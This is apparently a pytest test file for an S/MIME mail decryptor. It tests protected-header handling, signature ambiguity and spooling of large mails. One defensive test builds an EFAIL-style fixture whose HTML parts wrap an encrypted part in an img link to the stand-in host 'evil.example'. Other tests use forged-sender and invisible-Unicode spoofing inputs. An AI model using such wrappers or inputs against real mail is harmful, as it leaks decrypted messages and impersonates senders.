"""Which headers are believed, what a handler gets to read, and what is never put together."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from services.decryptor import author
from services.decryptor.opening import MailLimits, may_be_secured, open_mail
from shared.mail.addresses import read_addresses
from shared.mail.fields import read_fields
from shared.mail.region import region
from shared.mail.structure import entity
from tests.unit.smime.mails import (
    ENTITY,
    HEADER,
    TEXT,
    Opener,
    encrypt,
    mail,
    multipart_signed,
    pkcs7_entity,
    sign,
)
from tests.unit.smime.pki import Holder

OUTER = HEADER.replace(b"Invoice 4711", b"...")
PROTECTED = (
    b'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\n'
    b"Subject: =?utf-8?q?Geheime_Rechnung_=E2=82=AC?=\r\n"
    b"From: Alice Example <alice@example.org>\r\n"
    b"To: Bob <bob@example.org>,\r\n Carol <carol@example.org>\r\n"
    b"Date: Fri, 2 Jan 2026 10:00:00 +0100\r\n"
    b"Message-ID: <inner@example.org>\r\n"
    b"HP-Outer: Subject: ...\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n" + TEXT
)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (b"Content-Type: application/pkcs7-mime; name=x\r\n", True),
        (b"Content-Type: application/cms; encapsulatingContent=envelopedData\r\n", True),
        (b"Subject: x\r\nCONTENT-TYPE : Application/X-PKCS7-MIME\r\n", True),
        (b'Content-Type: application/octet-stream;\r\n name="SMIME.P7M"\r\n', True),
        (
            b"Content-Type: application/octet-stream\r\n"
            b"Content-Disposition: attachment; filename=smime.p7m\r\n",
            True,
        ),
        (b"Content-Type: multipart/signed; boundary=x\r\n", True),
        (b"Content-Type: multipart/encrypted; boundary=x\r\n", True),
        (b"Content-Type: text/plain\r\n", False),
        (b"Subject: no type at all\r\n", False),
        (b"Content-Type: text/html\r\n", False),
        (b"Content-Type: multipart/alternative; boundary=x\r\n", False),
        (b"Content-Type: application/octet-stream; name=a.pdf\r\n", False),
        (b"X-Content-Type: application/pkcs7-mime\r\nContent-Type: text/html\r\n", False),
        (b"Subject: x\r\n Content-Type: application/pkcs7-mime\r\nContent-Type: text/html\r\n",
         False),
    ],
)  # fmt: skip
def test_may_be_secured(header: bytes, expected: bool) -> None:
    assert may_be_secured(entity(region(header)), header) is expected
    if expected and b"multipart" not in header:
        multipart = b"Content-Type: multipart/mixed; boundary=x\r\n"
        assert may_be_secured(entity(region(multipart)), multipart + b"\r\n--x\r\n" + header)


def test_a_text_may_hold_openpgp() -> None:
    text = b"Content-Type: text/plain\r\n"
    armour = b"\r\nHello\r\n-----BEGIN PGP MESSAGE-----\r\n"
    assert may_be_secured(entity(region(text)), text + armour)
    assert may_be_secured(entity(region(b"Subject: x\r\n")), b"Subject: x\r\n" + armour)
    # What lies in base64 can only be known by decoding it.
    encoded = text + b"Content-Transfer-Encoding: base64\r\n"
    assert may_be_secured(entity(region(encoded)), encoded + b"\r\nSGVsbG8=\r\n")


@pytest.mark.parametrize("before", [0, 1 << 20, (1 << 20) - 3, (2 << 20) - 40])
def test_marks_are_found_anywhere_in_a_large_mail(before: int) -> None:
    """It is looked through in windows: none of what lies over an edge may be missed."""
    for kind, mark in (
        (b"multipart/mixed; boundary=x", b"Content-Type: application/PKCS7-mime\r\n"),
        (b"multipart/mixed; boundary=x", b"Content-Disposition: attachment; filename=Smime.P7M"),
        (b"text/html", b"<pre>-----BEGIN PGP MESSAGE-----"),
        (b"text/plain", b"-----BEGIN PGP SIGNED MESSAGE-----"),
    ):
        header = b"Content-Type: " + kind + b"\r\n\r\n"
        filling = b"word\r\n" * (before // 6) + b"w" * (before % 6)
        read = entity(region(header))
        assert may_be_secured(read, header + filling + mark)
        assert not may_be_secured(read, header + filling + b"nothing of the kind")


def test_plain_mail_has_nothing_to_tell(opener: Opener) -> None:
    for raw in (HEADER + ENTITY, b"", b"\r\n", b"garbage without any colon", b"\xff" * 100):
        with opener(raw) as opened:
            assert opened.content is None
            assert not opened.security.encrypted
            assert opened.security.status == "none"
            assert opened.security.signature == "none"
            assert opened.headers is None


@pytest.mark.promise("C2")
def test_protected_headers_of_an_encrypted_mail(opener: Opener, holders: dict[str, Holder]) -> None:
    sealed = mail(encrypt("-aes-256-gcm", holders["rsa"].cert, data=PROTECTED), header=OUTER)
    with opener(sealed) as opened:
        assert opened.headers is not None
        assert opened.headers.to_json() == {
            "subject": "Geheime Rechnung €",
            "from": "alice@example.org",
            "from_name": "Alice Example",
            "to": ["bob@example.org", "carol@example.org"],
            "to_names": ["Bob", "Carol"],
            "cc": [],
            "cc_names": [],
            "date": "2026-01-02T09:00:00+00:00",
            "message_id": "<inner@example.org>",
        }
        assert isinstance(opened.content, bytes)
        header, _, text = opened.content.partition(b"\r\n\r\n")
        assert text == TEXT
        assert header.lower().count(b"\nsubject:") == 1
        assert b"Subject: =?utf-8?q?Geheime" in header
        assert b"Received: from mx.example.net" in header
        assert b"Carol <carol@example.org>" in header


def test_wrapped_message(opener: Opener, holders: dict[str, Holder]) -> None:
    """RFC 8551 section 3.1: a whole mail, wrapped so that its header is protected."""
    wrapped = (
        b"Content-Type: message/rfc822; forwarded=no\r\n\r\n"
        + HEADER.replace(b"4711", b"9")
        + ENTITY
    )
    with opener(
        mail(encrypt("-aes256", holders["rsa"].cert, data=wrapped), header=OUTER)
    ) as opened:
        assert opened.headers is not None and opened.headers.subject == "Invoice 9"
        assert isinstance(opened.content, bytes)
        assert opened.content.endswith(ENTITY)
        assert b"message/rfc822" not in opened.content


def test_forwarded_message_is_not_a_header(opener: Opener, holders: dict[str, Holder]) -> None:
    forwarded = (
        b"Content-Type: message/rfc822\r\n\r\n"
        + HEADER.replace(b"alice@", b"dave@").replace(b"4711", b"9")
        + ENTITY
    )
    with opener(mail(encrypt("-aes256", holders["rsa"].cert, data=forwarded))) as opened:
        assert opened.headers is None
        assert isinstance(opened.content, bytes)
        assert b"message/rfc822" in opened.content


def test_author_of_an_unsigned_mail_is_not_taken_from_inside(
    opener: Opener, holders: dict[str, Holder]
) -> None:
    """Anyone can encrypt: the mail servers vouched for the outer From only."""
    forged = PROTECTED.replace(b"alice@example.org", b"ceo@example.org")
    with opener(mail(encrypt("-aes256", holders["rsa"].cert, data=forged))) as opened:
        assert opened.headers is not None
        assert opened.headers.sender == "alice@example.org"
        assert opened.headers.subject == "Geheime Rechnung €"
        assert isinstance(opened.content, bytes)
        assert b"ceo@example.org" not in opened.content


@pytest.mark.parametrize(
    ("before", "word"),
    [
        (b"Comments: one\0two\r\n", "nul"),
        (b"Comments : one\r\n", "space-before-colon"),
        (b"Comments: one\x01two\r\n", "control-character"),
        (b"".join(b"X-%d: %s\r\n" % (n, b"x" * 900) for n in range(2400)), "header-too-long"),
    ],
    ids=["nul", "space", "control", "long"],
)
@pytest.mark.parametrize("behind", [True, False])
def test_a_header_that_ends_elsewhere_for_others_proves_no_author(
    before: bytes, word: str, behind: bool, opener: Opener, holders: dict[str, Holder]
) -> None:
    """Some readers stop there, and show no author or one that comes behind it."""
    alice = holders["alice"]
    head, _, body = multipart_signed(alice.cert, alice.key).partition(b"\r\n\r\n")
    fields = HEADER + head + b"\r\n"
    fields = fields + before if behind else before + fields
    with opener(fields + b"\r\n" + body) as opened:
        if word == "header-too-long" and not behind:
            assert opened.security.signature == "none"  # what comes behind it is not read
            return
        assert opened.security.signature == "ambiguous"
        assert word in opened.security.reason


@pytest.mark.parametrize(
    "letter",
    [
        "\u202e", "\u200b", "\u2028", "\u2066", "\xad", "\x85",
        # No format characters, for some or all versions of Python.
        "\u034f", "\u115f", "\u2800", "\u3164", "\uffa0", "\U00013439", "\U000e0fff",
    ],
    ids=ascii,
)  # fmt: skip
@pytest.mark.parametrize("form", ["{}", "=?utf-8?b?{}?="])
def test_a_name_with_invisible_letters_proves_no_author(
    letter: str, form: str, opener: Opener, holders: dict[str, Holder]
) -> None:
    alice = holders["alice"]
    name = f"Al{letter}ice"
    shown = name if form == "{}" else form.format(base64.b64encode(name.encode()).decode())
    header = HEADER.replace(b"Alice Example", shown.encode())
    with opener(header + multipart_signed(alice.cert, alice.key)) as opened:
        assert opened.security.signature == "ambiguous"


@pytest.mark.parametrize(
    ("sign", "shown"),
    [
        ("\u00fc", True),
        # Of Unicode 15 and 15.1, which Python 3.11 does not know and 3.13 does.
        ("\U0001fae8", True),
        ("\U00031350", True),
        ("\u3000", False),
        ("\ue000", False),
        ("\u200d", False),
    ],
    ids=ascii,
)
def test_no_address_depends_on_the_python_that_reads_it(sign: str, shown: bool) -> None:
    address = f"j{sign}n@example.org"
    found = author.read_author(read_fields(f"From: Jane <{address}>\r\n".encode()), ())
    assert found.address == (address if shown else None)


def test_a_signed_header_that_names_two_authors_proves_none(
    opener: Opener, holders: dict[str, Holder]
) -> None:
    alice = holders["alice"]
    twice = b"From: Mallory <mallory@example.org>\r\n"
    for inside in (PROTECTED.replace(b"To: ", twice + b"To: "), twice + PROTECTED):
        with opener(HEADER + multipart_signed(alice.cert, alice.key, entity=inside)) as opened:
            assert opened.security.signature == "ambiguous"
            assert "The signed header is ambiguous: duplicate-from" in opened.security.reason


def test_an_author_that_our_own_pages_read_otherwise_is_none(
    opener: Opener, holders: dict[str, Holder], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Both readers are ours, and no mail is known on which they differ: should there be one."""
    alice = holders["alice"]
    other = read_addresses(b"Mallory <mallory@example.org>")
    monkeypatch.setattr(author, "read_addresses", lambda _: other)
    with opener(HEADER + multipart_signed(alice.cert, alice.key)) as opened:
        assert opened.security.signature == "ambiguous"


def test_another_author_inside_is_never_valid(opener: Opener, holders: dict[str, Holder]) -> None:
    """A list that writes itself into From, or somebody who signs for himself: none can tell."""
    alice = holders["alice"]
    relayed = HEADER.replace(b"alice@example.org", b"list@example.net")
    for inside in (
        multipart_signed(alice.cert, alice.key, entity=PROTECTED),
        pkcs7_entity(sign(alice.cert, alice.key, data=PROTECTED), "signed-data"),
    ):
        with opener(relayed + inside) as opened:
            assert opened.security.signature == "mismatch"
            assert opened.security.signer == "alice@example.org"
            assert "list@example.net" in opened.security.reason
            assert opened.headers is not None
            assert opened.headers.sender == "list@example.net"
            assert isinstance(opened.content, bytes)
            assert b"list@example.net" in opened.content


def test_headers_of_a_changed_mail_are_not_believed(
    opener: Opener, holders: dict[str, Holder]
) -> None:
    alice = holders["alice"]
    raw = OUTER + multipart_signed(alice.cert, alice.key, entity=PROTECTED)
    with opener(raw.replace(b"Geheime", b"Andere")) as opened:
        assert opened.security.signature == "invalid"
        assert opened.headers is None


@pytest.mark.promise("C2")
def test_encrypted_part_among_others_is_not_opened(
    opener: Opener, holders: dict[str, Holder]
) -> None:
    """EFAIL: the text around a part could carry the decrypted text away."""
    sealed = pkcs7_entity(encrypt("-aes256", holders["rsa"].cert))
    raw = (
        HEADER + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--m\r\n'
        + sealed
        + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
    )
    with opener(raw) as opened:
        assert opened.content is None
        assert opened.security.encrypted
        assert opened.security.status == "unsupported"
        assert "other parts" in opened.security.reason


def test_file_in_file_out(opener: Opener, holders: dict[str, Holder], tmp_path: Path) -> None:
    """A large mail goes through files, which are gone when it is closed."""
    entity = ENTITY + b"x" * 500_000
    source = tmp_path / "mail.eml"
    alice = holders["alice"]
    inner = pkcs7_entity(
        sign(alice.cert, alice.key, "-stream", "-indef", data=entity), "signed-data"
    )
    source.write_bytes(
        mail(encrypt("-aes256", "-stream", "-indef", holders["rsa"].cert, data=inner))
    )
    spool = tmp_path / "spool"
    spool.mkdir()
    with source.open("rb") as raw:
        opened = open_mail(
            raw,
            opener.identities,
            opener.trust,
            limits=MailLimits(memory_bytes=1000),
            spool_dir=spool,
        )
        with opened:
            assert opened.security.signature == "valid"
            assert isinstance(opened.content, Path)
            assert list(spool.iterdir()) == [], "what is open has no name that outlives it"
            assert opened.content.stat().st_dev == spool.stat().st_dev
            assert opened.content.read_bytes() == HEADER + entity
    assert list(spool.iterdir()) == []


def test_mail_from_a_pipe(opener: Opener, holders: dict[str, Holder], tmp_path: Path) -> None:
    import io

    raw = io.BytesIO(mail(encrypt("-aes256", holders["rsa"].cert)))
    with open_mail(raw, opener.identities, opener.trust, spool_dir=tmp_path) as opened:
        assert opened.content == HEADER + ENTITY
